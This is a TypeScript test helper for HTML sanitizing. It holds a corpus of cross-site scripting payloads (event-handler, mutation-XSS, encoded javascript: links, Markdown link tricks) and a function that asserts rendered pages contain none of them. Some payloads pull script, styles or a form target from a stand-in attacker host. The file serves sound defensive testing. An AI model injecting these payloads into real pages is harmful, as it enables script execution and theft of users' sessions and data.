/** What an attacker writes into every text there is, and what must come of it in a page. Browsers' tests take it from here, too. */
import assert from 'node:assert/strict';

/** Texts that become script, markup, style or a link somewhere, gathered from OWASP's lists and from what Markdown has let through. */
export const xssCorpus: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '"><svg onload=alert(1)>',
  '"><svg/onload=alert(1)//',
  '<svg><script href="data:,alert(1)" />',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example/><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  "' onmouseover='alert(1)",
  '" onfocus="alert(1)" autofocus="',
  '` onerror=alert(1) `',
  '</title><script>alert(1)</script>',
  '</style><style>*{display:none}</style>',
  '</textarea><script>alert(1)</script>',
  '</noscript><img src=x onerror=alert(1)>',
  '--><script>alert(1)</script>',
  '<!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}',
  `\${alert(1)}`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](//evil.example/x)',
  '![x](https://evil.example/pixel.png)',
  '![x](x"onerror="alert(1))',
  '<https://good.example/"onclick="alert(1)>',
  '<javascript:alert(1)>',
  '[x](https://good.example/ "title\\" onclick=alert(1)")',
  '[a]: javascript:alert(1)\n\n[a]',
  '```"><script>alert(1)</script>\nx\n```',
  '~~~" onclick="alert(1)\nx\n~~~',
  '\u202e<script>',
];

const elements =
  /^<\/?(?:p|em|strong|a|b|ul|ol|li|h[1-6]|pre|code|blockquote|hr|br|s|table|thead|tbody|tr|th|td|main|header|footer|nav|section|article|details|summary|dl|dt|dd|div|span|bdi|small|time|label|textarea|input|noscript|svg|path|html|head|meta|title|style|body)(?:\s|\/?>)/;

/** Throws when `html` holds an element, attribute or link that nobody meant to be there. The scripts of `own` are meant to be there. */
export function assertHarmless(html: string, own: readonly string[] = []): void {
  const rest = own.reduce((text, tag) => text.replace(tag, ''), html.replace(/<!doctype html>/, ''));
  for (const [tag] of rest.matchAll(/<[^>]*>?/g)) {
    assert.match(tag, elements);
    const attributes = tag.replaceAll(/"[^"]*"/g, '""');
    assert.doesNotMatch(attributes, /\son[a-z]+=|srcset|formaction|style=|http-equiv|srcdoc|\ssrc=|'|`/i, tag);
    const href = /\shref="([^"]*)"/.exec(tag)?.[1];
    if (href !== undefined) assert.match(href, /^(?:https?:|mailto:|\/(?!\/)|\?)/i, tag);
  }
  assert.doesNotMatch(rest, /<script/i);
}
